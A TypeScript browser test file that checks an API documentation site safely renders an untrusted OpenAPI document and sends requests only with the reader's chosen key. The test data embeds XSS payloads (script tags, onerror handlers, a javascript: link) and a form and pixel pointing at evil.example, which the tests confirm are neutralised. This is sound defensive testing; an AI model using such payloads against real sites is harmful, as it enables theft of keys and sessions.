import { createServer } from "node:http";
import { afterAll, beforeAll, expect, it } from "vitest";
import { freePort } from "../node/project.ts";
import { useBrowser } from "./chromium.ts";

// The page with the team's own OpenAPI document. The document is hostile here: somebody else may have written its texts.

const port = await freePort();
const received: { url?: string | undefined; authorization?: string | undefined; origin?: string | undefined }[] = [];
const api = createServer(({ method, url, headers }, res) => {
  res.setHeader("Access-Control-Allow-Origin", "*").setHeader("Access-Control-Allow-Headers", "*");
  if (method !== "OPTIONS") received.push({ url, authorization: headers.authorization, origin: headers.origin });
  res.end("[]");
});
beforeAll(() => new Promise<void>((resolve) => void api.listen(port, "127.0.0.1", resolve)));
afterAll(() => api.close());

const openapi = `
openapi: 3.1.0
info:
  title: Acme API
  version: "1"
  description: |
    Orders. <script>window.stolen = 1</script> <img src="/docs" onerror="window.stolen = 2"> [here](javascript:window.stolen=3)
    <form action="https://evil.example/"><input name="key"></form> <iframe src="/keys"></iframe> <img src="https://evil.example/pixel.png">
security: [{ key: [] }, { inAddress: [] }]
paths:
  /orders:
    get: { operationId: listOrders, summary: List orders, tags: [Orders], responses: { "200": { description: The orders. } } }
components:
  securitySchemes:
    inAddress: { type: apiKey, in: query, name: api_key }
    key: { type: http, scheme: bearer }
`;
const settings = `[brand]\nname = "Acme"\nopenapi = "openapi.yaml"\napi_url = "http://127.0.0.1:${port}"\nfirst_request = "GET /orders"\n`;
const { worker, browser } = useBrowser({ files: { "overview.toml": settings, "openapi.yaml": openapi } });

it("The reference shows the document, calls the team's API with the reader's key, and nobody else", async () => {
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  const hosts = new Set<string>();
  page.on("response", (response) => void hosts.add(new URL(response.url()).host));
  const errors: string[] = [];
  page.on("pageerror", (error) => void errors.push(error.message));
  const response = await page.goto(`http://localhost:${worker.port}/docs/reference`);
  const policy = response?.headers()["content-security-policy"] ?? "";
  for (const part of ["sandbox allow-scripts allow-forms allow-popups;", `connect-src http://127.0.0.1:${port};`, "frame-ancestors 'none'"])
    expect(policy).toContain(part);
  await page.getByRole("heading", { name: "Acme API" }).waitFor();
  await page.getByRole("heading", { name: "List orders" }).first().waitFor();
  await page.getByPlaceholder("Token").first().fill("acme_key");
  await page
    .getByRole("button", { name: /Test Request/ })
    .first()
    .click();
  await page.getByRole("button", { name: /Send/ }).first().click();
  await expect.poll(() => received).toEqual([{ url: "/orders", authorization: "Bearer acme_key", origin: "null" }]);
  expect([...hosts].filter((host) => host !== `localhost:${worker.port}` && host !== `127.0.0.1:${port}`)).toEqual([]);
  expect(errors).toEqual([]);
  await page.close();
});

it("A script in the document does not run, and the page reaches no cookie, no storage, no form and no page of this service", async () => {
  const page = await browser.newPage();
  await page.goto(`http://localhost:${worker.port}/docs/reference`);
  await page.getByRole("heading", { name: "Acme API" }).waitFor();
  for (const link of await page.getByRole("link", { name: "here" }).all()) await link.click();
  const reached = await page.evaluate(`(async () => {
    const nameOf = async (work) => {
      try {
        return await work();
      } catch (error) {
        return error.name;
      }
    };
    return {
      origin: self.origin,
      stolen: window.stolen ?? null,
      cookie: await nameOf(() => document.cookie),
      database: await nameOf(() => indexedDB.open("x")),
      keys: await nameOf(async () => (await fetch("/keys")).status),
      forms: document.querySelectorAll("form[action], iframe").length,
    };
  })()`);
  expect(reached).toEqual({
    origin: "null",
    stolen: null,
    cookie: "SecurityError",
    database: "SecurityError",
    keys: "TypeError",
    forms: 0,
  });
  await page.close();
});

it("The reference sends requests as the key that the reader has chosen, and no other page of its tab can ask for it", async () => {
  const page = await browser.newPage();
  await page.goto(`http://localhost:${worker.port}/docs`);
  await page.getByLabel("Send as").selectOption({ index: 0 });
  const [reference] = await Promise.all([page.waitForEvent("popup"), page.getByRole("button", { name: "Open the API reference" }).click()]);
  await reference.getByText(/^Requests are sent as .+ for ten minutes\.$/).waitFor();
  expect(reference.url()).not.toMatch(/#[0-9a-f-]{36}/);
  // Otherwise, a page that follows in this tab could lead the page that opened it elsewhere.
  expect(await reference.evaluate("window.opener")).toBeNull();
  received.splice(0);
  await reference
    .getByRole("button", { name: /Test Request/ })
    .first()
    .click();
  await reference.getByRole("button", { name: /Send/ }).first().click();
  await expect.poll(() => received[0]?.url).toBe("/orders");
  expect(received[0]?.authorization).toMatch(/^Bearer dvo_[0-9A-Za-z]{16}_[0-9A-Za-z]{40}$/);
  const me = await fetch(`http://localhost:${worker.port}/api/v1/me`, { headers: { Authorization: received[0]?.authorization ?? "" } });
  expect(me.status).toBe(200);
  // A later page in the tab asks again, also with the text of the first.
  await reference.goto(`http://localhost:${worker.port}/docs/reference`);
  const answer = await reference.evaluate(`new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => resolve(data);
    window.opener?.postMessage("00000000-0000-0000-0000-000000000000", "*", [port2]);
    setTimeout(() => resolve("nothing"), 1000);
  })`);
  expect(answer).toBe("nothing");
  await reference.close();
  await page.close();
});

it("The documentation links to the reference, whose links lead back", async () => {
  const page = await browser.newPage();
  await page.goto(`http://localhost:${worker.port}/docs`);
  await page.getByRole("link", { name: "API reference" }).click();
  await page.getByRole("navigation", { name: "Documentation" }).getByRole("link", { name: "Limits" }).click();
  await page.getByRole("heading", { name: "Limits", level: 1 }).waitFor();
  await page.close();
});
